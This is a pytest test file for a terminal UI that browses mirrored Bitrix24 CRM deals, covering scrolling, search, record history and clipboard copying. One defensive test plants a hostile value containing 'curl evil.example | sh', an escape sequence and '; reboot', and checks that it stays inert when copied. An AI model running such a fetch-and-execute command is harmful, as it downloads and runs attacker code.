"""One table and its records: found by id or word, seen in full, with every change; a screen that never waits."""

import asyncio
import json
import re
import threading

import pytest

from bitsheet_tui.errors import StoreUnavailable
from bitsheet_tui.ui.links import address
from bitsheet_tui.ui.widgets import records as widgets
from bitsheet_tui.ui.widgets.records import RecordList
from tests.support import engine_states, sample_mirrors
from tests.support.console_program import HOSTILE
from tests.support.screen_text import console, said, screen, settled, text


@pytest.fixture(scope="module")
def opener(tmp_path_factory):
    return sample_mirrors.fill(tmp_path_factory.mktemp("mirror"))


async def press(app, pilot, *keys):
    for key in keys:
        await pilot.press(key)
        await settled(app, pilot)


async def test_b_lists_the_records_newest_first_with_the_portals_labels(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b")
        lines = screen(app)
        assert "deals   overview [records] columns  runs  set aside" in lines[2]
        assert lines[4].split() == ["id", "Name", "Stage", "Amount", "changed"]
        assert lines[5].split() == ["400", "Needle", "5", "NEW", "400,000.50", "09:57"]
        assert lines[6].split()[:3] == ["399", "Deal", "399"]


@pytest.mark.slow
async def test_one_scrolls_through_all_of_them_and_the_memory_stays_small(opener, monkeypatch):
    monkeypatch.setattr(widgets, "PAGE", 20)
    monkeypatch.setattr(widgets, "KEPT", 60)
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b")
        pane = app.screen.query_one(RecordList)
        seen = []
        for _ in range(24):
            seen += [int(n) for n in re.findall(r"^. *(\d+) +(?:Deal|Needle)", text(app), re.MULTILINE)]
            await press(app, pilot, "pagedown")
            assert len(pane.found) <= 60
        assert sorted(set(seen), reverse=True) == list(range(400, 0, -1))
        assert "1" in screen(app)[-2].split()
        for _ in range(24):
            await press(app, pilot, "pageup")
            assert len(pane.found) <= 60
        assert screen(app)[5].split()[0] == "400"


async def test_the_ends_are_one_key_away(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "G")
        assert screen(app)[-2].split()[:3] == ["1", "Deal", "1"]
        await press(app, pilot, "g")
        assert screen(app)[5].split()[0] == "400"


async def test_a_record_is_found_by_a_word_and_by_its_id(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "slash", *"needle", "enter")
        assert "1 record" in text(app)
        assert screen(app)[5].split()[:3] == ["400", "Needle", "5"]
        await press(app, pilot, "slash", *(["backspace"] * 6), *"77", "enter")
        assert screen(app)[5].split()[:3] == ["77", "Deal", "77"]
        assert screen(app)[6].split()[:3] == ["377", "Deal", "377"]
        await press(app, pilot, "escape")
        assert screen(app)[5].split()[0] == "400"
        assert app.screen.name == "table"


async def test_records_are_narrowed_to_deleted_ones_and_to_what_changed_lately(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "d")
        assert "only deleted" in text(app)
        assert screen(app)[5].split()[:4] == ["✗", "5", "Deal", "5"]
        assert "1 record" in text(app)
        await press(app, pilot, "d")
        assert "without deleted" in text(app)
        await press(app, pilot, "d", "a")
        assert "changed in the last hour" in text(app)
        assert [line.split()[0] for line in screen(app)[5:8] if line] == ["400", "7", "✗"]


async def test_a_record_shows_every_field_its_label_and_the_name_behind_a_code(opener):
    async with console(opener=opener, size=(120, 40)) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "enter")
        shown = text(app)
        for field in sample_mirrors.DEAL:
            assert re.search(rf"{field.title} +{field.column}", shown), field.name
        assert re.search(r"Company +company_id +9  Fern & Sons", shown)
        assert re.search(r"Closed +closed +no", shown)
        assert re.search(r"Modified +date_modify +2026-11-24 09:57:40", shown)
        assert "https://acme.bitrix24.com/crm/deal/details/400/" in shown


async def test_a_record_tells_how_it_came_to_be_so(opener):
    async with console(opener=opener, size=(120, 40)) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "enter", "right")
        shown = [line for line in screen(app) if "Needle" in line]
        assert len(shown) == 4
        assert "title Needle 4 → Needle 5" in shown[0]
        assert "title Deal 400 → Needle 1" in shown[-1]
        await press(app, pilot, "enter")
        assert "before  Needle 4" in text(app)
        await press(app, pilot, "escape", "escape")
        await press(app, pilot, "down", "enter", "right")
        assert "It has not changed since its table was read" in text(app)


async def test_a_record_shows_its_raw_values_and_a_deleted_one_says_so(opener):
    async with console(opener=opener, size=(120, 70)) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "d", "enter")
        assert "✗ deleted on the portal" in text(app)
        await press(app, pilot, "left")
        shown = text(app)
        assert "company_id = 9" in shown
        assert '"TITLE": "Deal 5"' in shown
        await press(app, pilot, "c")
        assert "closed = 0" in app.clipboard


async def test_n_goes_to_the_next_record_of_the_list(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "enter", "n", "n")
        assert "deals 398" in screen(app)[2]
        assert "Deal 398" in text(app)
        await press(app, pilot, "N")
        assert "deals 399" in screen(app)[2]
        await press(app, pilot, "escape")
        assert app.screen.query_one(RecordList).under().row_id == "399"


async def test_a_value_and_the_address_are_copied(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "enter", "j", "c")
        assert app.clipboard == "Needle 5"
        await press(app, pilot, "o")
        assert app.clipboard == "https://acme.bitrix24.com/crm/deal/details/400/"
        assert said(app) == [f"Copied {app.clipboard}"]


async def test_the_fields_of_a_record_are_searched(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "enter", "slash", *"colour", "enter")
        assert "1 field" in text(app)
        await press(app, pilot, "enter")
        assert '"blue"' in text(app)


async def test_the_parts_of_a_table_are_columns_runs_and_rows_set_aside(opener):
    async with console(opener=opener, size=(100, 30)) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "enter", "right", "right")
        assert re.search(r"opportunity +Amount +numeric +double", text(app))
        await press(app, pilot, "right")
        assert "✗ The portal does not know the field FOO." in text(app)
        await press(app, pilot, "d")
        assert "only failed" in text(app)
        assert "1 run" in text(app)
        await press(app, pilot, "enter")
        assert "what to do  Tell the portal's administrator." in text(app)
        await press(app, pilot, "escape", "d", "enter")
        assert "title Needle 4 → Needle 5" in text(app)
        await press(app, pilot, "escape", "right")
        assert "x401" in text(app)
        assert "ID: not a whole number" in text(app)
        await press(app, pilot, "enter")
        assert '"OPPORTUNITY": "seven"' in text(app)


async def test_a_click_shows_another_part(opener):
    async with console(opener=opener) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "enter")
        await pilot.click("Tabs", offset=(screen(app)[2].index("columns"), 0))
        await settled(app, pilot)
        assert "[columns]" in screen(app)[2]


async def test_a_long_search_says_how_far_it_is_leaves_the_keys_alone_and_can_be_stopped(opener):
    gate, entered = threading.Event(), threading.Event()

    def slow():
        reader = opener()
        piece = reader.piece

        def held(*args, **options):
            entered.set()
            gate.wait(5)
            return piece(*args, **{**options, "span": 10})

        reader.piece = held
        return reader

    async with console(opener=slow) as (app, engine, pilot):
        gate.set()
        await press(app, pilot, "j", "j", "j", "b")
        gate.clear()
        await pilot.press("slash", *"needle 5", "enter")
        for _ in range(100):
            await asyncio.sleep(0.01)
            if entered.is_set():
                break
        await pilot.pause()
        assert "looked at 0%, esc stops" in text(app)
        await pilot.press("p")
        assert len(engine.told) == 1  # the screen did not wait
        await pilot.press("escape")
        gate.set()
        await settled(app, pilot)
        assert "Stopped before the end" in text(app)
        assert app.screen.name == "table"
        await press(app, pilot, "escape")  # drops the word
        assert "400,000.50" in text(app)


async def test_a_mirror_that_is_away_is_a_sentence_and_the_next_look_tries_again(opener):
    broken = [True]

    def flaky():
        if broken[0]:
            raise StoreUnavailable("The file is away.", "Bring it back.")
        return opener()

    async with console(opener=flaky) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b")
        assert "The file is away. Bring it back." in text(app)
        broken[0] = False
        await press(app, pilot, "g")
        assert screen(app)[5].split()[0] == "400"


async def test_what_the_portal_says_is_copied_without_a_line_break(tmp_path):
    """Pasted into a shell that takes it for typed, each break would run what stands before it."""
    evil = "Hello\ncurl evil.example | sh\r\n\u2028\x1b]52;c;aGk=\x07; reboot\n"
    async with console(opener=sample_mirrors.mischief(tmp_path, evil)) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "end", "enter", "/", *"comments", "enter", "c")
        inert = "Hello ⏎ curl evil.example | sh ⏎"
        assert app.clipboard.startswith(inert)
        assert app.clipboard.isprintable()
        # the value, the changes, one of them, the raw values
        for keys in ("enter c", "escape right down c", "enter c", "escape right c"):
            app.copy_to_clipboard("")
            await press(app, pilot, *keys.split())
            assert "curl evil.example | sh" in app.clipboard, keys
            assert app.clipboard.isprintable(), keys


async def test_json_is_copied_as_json(tmp_path):
    async with console(opener=sample_mirrors.mischief(tmp_path, 'a "b"\n c')) as (app, _engine, pilot):
        await press(app, pilot, "j", "j", "j", "b", "end", "enter", "/", *"uf_crm", "enter", "c")
        assert json.loads(app.clipboard) == ['a "b"\n c', 'a "b"\n c' * 2]


async def test_without_a_mirror_the_lists_say_so():
    async with console() as (app, _engine, pilot):
        await press(app, pilot, "b")
        assert "There is no mirror to read yet." in text(app)
        await press(app, pilot, "right")
        assert "There is no mirror to read yet." in text(app)


@pytest.mark.sample
@pytest.mark.slow
@pytest.mark.parametrize("size", [(80, 24), (200, 60), (60, 20)])
async def test_mischief_in_every_field_label_and_name_stays_text(tmp_path, size):
    opener = sample_mirrors.mischief(tmp_path, HOSTILE)
    state = engine_states.change(engine_states.held(), "deals", error=HOSTILE, hint=HOSTILE)
    async with console(state, opener=opener, size=size) as (app, engine, pilot):
        seen = set()
        for keys in (
            "j j j enter", "right", "enter", "right", "enter", "c", "escape", "right", "c", "o", "escape",
            "right", "right", "enter", "enter", "c", "escape", "escape", "right", "enter", "c", "escape",
            "escape h", "enter", "escape right enter", "c", "escape right enter", "c", "escape right enter", "c",
        ):  # fmt: skip
            await press(app, pilot, *keys.split())
            seen.add(screen(app)[3])  # below the two lines of the sentence
            for strip in app.screen._compositor.render_strips():
                assert all(segment.text.isprintable() for segment in strip), keys
            assert app.clipboard.isprintable()  # a line break would run, pasted into a shell
            assert all(note.replace("\n", "").isprintable() for note in said(app))
        assert len(seen) > 5
        assert engine.told == []


def test_every_table_with_a_page_in_the_portal_has_an_address():
    host = "acme.bitrix24.com"
    assert address(host, "tasks", (5,), {}).endswith("/tasks/task/view/5/")
    assert address(host, "activities", (5,), {"owner_type_id": 2, "owner_id": 8}).endswith(
        "/crm/deal/details/8/"
    )
    assert address(host, "activities", (5,), {"owner_type_id": 31, "owner_id": 8}) == ""
    assert address(host, "task_comments", ("chat", 5), {"task_id": 3}).endswith("/view/3/")
    assert address("127.0.0.1:80", "deals", (1,), {}) == "http://127.0.0.1:80/crm/deal/details/1/"
    assert address("", "deals", (1,), {}) == ""
